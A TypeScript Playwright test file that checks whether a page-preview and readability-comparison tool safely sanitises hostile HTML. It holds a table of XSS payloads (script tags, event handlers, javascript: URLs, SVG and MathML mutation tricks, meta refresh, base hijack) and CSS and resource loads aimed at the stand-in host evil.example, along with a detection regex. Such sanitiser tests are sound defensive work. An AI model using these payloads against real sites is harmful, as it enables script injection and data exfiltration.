import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { executablePath, launch } from "./chromium.js";
import { type Site, serve } from "./site.js";

const WORDS =
  "The ferry left at six, as it did every morning, and nobody on board looked back at the town. ".repeat(3);

/** Markup that runs a script, leaves the page, sends something or looks like part of the playground. */
const ATTACKS: Readonly<Record<string, string>> = {
  script: `<script>top.pwned = 1</script><script src="https://evil.example/a.js"></script>`,
  "event handlers": `<img src="x" onerror="top.pwned=1"><p onpointerover="top.pwned=1" onclick="top.pwned=1">${WORDS}</p><details open ontoggle="top.pwned=1"><summary>More</summary></details>`,
  "addresses that are scripts": `<a href="javascript:top.pwned=1">${WORDS}</a><iframe src="javascript:top.pwned=1"></iframe><form action="javascript:top.pwned=1"><button>Send</button></form>`,
  svg: `<svg onload="top.pwned=1"><script>top.pwned=1</script><a xlink:href="javascript:top.pwned=1"><text>${WORDS}</text></a><animate onbegin="top.pwned=1" attributeName="x"></svg>`,
  mathml: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;"></mglyph></table></mtext><maction actiontype="statusline#https://evil.example" xlink:href="javascript:top.pwned=1">x</maction></math>`,
  "meta refresh": `<meta http-equiv="refresh" content="0;url=https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:top.pwned=1">`,
  form: `<form action="https://evil.example/" method="post"><input name="q" autofocus onfocus="top.pwned=1"><button>Go</button></form>`,
  base: `<base href="https://evil.example/" target="_top"><a href="a">${WORDS}</a><img src="b.png">`,
  "style exfiltration": `<style>@import "https://evil.example/a.css"; p { background: url(https://evil.example/p.png) } [data-block] { position: fixed; inset: 0 }</style><p style="background:url(https://evil.example/q.png);position:fixed;inset:0">${WORDS}</p><link rel="stylesheet" href="https://evil.example/b.css">`,
  resources: `<img src="https://evil.example/pixel.png" srcset="https://evil.example/2x.png 2x"><video poster="https://evil.example/v.png" src="https://evil.example/v.mp4"></video><iframe src="https://evil.example/"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e"><link rel="preload" as="image" href="https://evil.example/l.png"><link rel="dns-prefetch" href="https://evil.example">`,
  "nested documents": `<iframe srcdoc="<script>top.pwned=1</script>"></iframe><template><script>top.pwned=1</script></template><noscript><p title="</noscript><img src=x onerror=top.pwned=1>"></noscript>`,
  "leaving the frame": `</body></html></iframe><script>top.pwned=1</script><div data-block="0" class="content active">${WORDS}</div><plaintext>"><img src=x onerror=top.pwned=1>`,
};

/** Elements and attributes that act, load or leave. */
const ACTIVE = /^(?:on|script|style|action|form|iframe|object|embed|base|meta|link|srcset)/;

describe.skipIf(executablePath === undefined)("hostile pages", () => {
  let site: Site;
  let browser: Browser;
  let page: Page;
  /** Requests that leave the site, dialogs and new windows. */
  let escapes: string[];

  beforeAll(async () => {
    site = await serve();
    browser = await launch();
    page = await browser.newPage();
    page.setDefaultTimeout(120_000);
    page.on("dialog", (dialog) => {
      escapes.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("popup", (popup) => escapes.push(`popup ${popup.url()}`));
    // Not the event `request`, which is also sent for what a policy refuses.
    await page.route(/evil\.example/, (route) => {
      escapes.push(route.request().url());
      return route.abort();
    });
    await page.goto(site.url);
  });
  afterAll(async () => {
    await browser.close();
    site.close();
  });

  /** Waits until the frame has shown its document and a script in it would have run. */
  async function settled(): Promise<void> {
    await page.locator("iframe").waitFor();
    await page.waitForFunction(
      () => document.querySelector("iframe")?.contentDocument?.readyState === "complete",
    );
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))));
  }

  /** The names of all elements and attributes in the frame. */
  const namesInFrame = () =>
    page
      .locator("iframe")
      .evaluate((frame: HTMLIFrameElement) =>
        [...frame.contentDocument!.body.querySelectorAll("*")].flatMap((element) => [
          element.localName,
          ...element.getAttributeNames(),
        ]),
      );

  const pwned = () => page.evaluate(() => "pwned" in globalThis);

  for (const [name, markup] of Object.entries(ATTACKS)) {
    it(`stay harmless: ${name}`, async () => {
      escapes = [];
      const source = `<!doctype html><title>${name}</title><body><h1>A crossing</h1><p>${WORDS}</p>${markup}<p>${WORDS}</p>`;
      await page.getByLabel("Address or HTML of a page").fill(source);
      await page.getByRole("button", { name: "Open" }).click();
      await page.locator(".summary .title", { hasText: name }).waitFor();
      await page.getByRole("tab", { name: "Page" }).click();
      await settled();
      const frame = page.frameLocator("iframe");
      await frame.locator("[data-block]", { hasText: "nobody on board" }).first().click();
      // What is left has no address but that of images, and no handler.
      expect((await namesInFrame()).filter((word) => word === "href" || ACTIVE.test(word))).toEqual([]);

      await page.getByRole("tab", { name: "Read" }).click();
      await settled();
      expect((await namesInFrame()).filter((word) => ACTIVE.test(word))).toEqual([]);
      await page.getByRole("tab", { name: "Result" }).click();
      for (const format of ["HTML", "Markdown"]) {
        await page.getByText(format, { exact: true }).click();
        await settled();
        expect((await namesInFrame()).filter((word) => ACTIVE.test(word))).toEqual([]);
        expect(await page.locator("iframe").getAttribute("srcdoc")).not.toMatch(/javascript:/i);
      }
      // Metadata show addresses and titles as text.
      for (const tab of ["Metadata", "Verdict", "Compare"])
        await page.getByRole("tab", { name: tab }).click();
      for (const tool of ["readability.js", "defuddle", "readability"]) {
        await page.getByLabel("Right").selectOption(tool);
        await page.locator("th", { hasText: tool }).waitFor();
        await page.locator(".compare-view[aria-busy=false]").waitFor();
      }
      expect(await pwned()).toBe(false);
      expect(escapes).toEqual([]);
      expect(page.url().startsWith(site.url)).toBe(true);
    });
  }

  it("would be harmless even if all of their markup were in the frame", async () => {
    escapes = [];
    await page.getByRole("tab", { name: "Page" }).click();
    await settled();
    await page.evaluate((markup) => {
      const frame = document.querySelector("iframe")!;
      frame.srcdoc = frame.srcdoc.replace(/<body.*$/s, `<body>${markup}`);
    }, Object.values(ATTACKS).join("\n"));
    await settled();
    // A refresh would leave within a moment; nothing else tells that it did not.
    await page.waitForTimeout(300);
    expect(await pwned()).toBe(false);
    expect(escapes).toEqual([]);
  });

  it("load images if the reader asks for it", async () => {
    escapes = [];
    await page
      .getByLabel("Address or HTML of a page")
      .fill(`<title>Images</title><p>${WORDS}</p>${ATTACKS.resources}`);
    await page.getByRole("button", { name: "Open" }).click();
    await page.locator(".summary .title", { hasText: "Images" }).waitFor();
    await page.getByLabel("Load images").check();
    await expect.poll(() => escapes).toEqual(["https://evil.example/pixel.png"]);
  });

  it("do not stop the page if they take too long", async () => {
    escapes = [];
    await page
      .getByLabel("Address or HTML of a page")
      .fill(`<title>Deep</title>${"<div>".repeat(20_000)}<p>${WORDS}`);
    await page.getByRole("button", { name: "Open" }).click();
    await page.locator(".summary .title", { hasText: "Deep" }).waitFor();
    await page
      .getByLabel("Address or HTML of a page")
      .fill(`<title>Wide</title>${"<p>One".repeat(8_000)}<p>${WORDS}`);
    await page.getByRole("button", { name: "Open" }).click();
    await page.locator(".summary .title", { hasText: "Wide" }).waitFor();
    await page.getByText("too large to be shown completely").waitFor();
  });
});
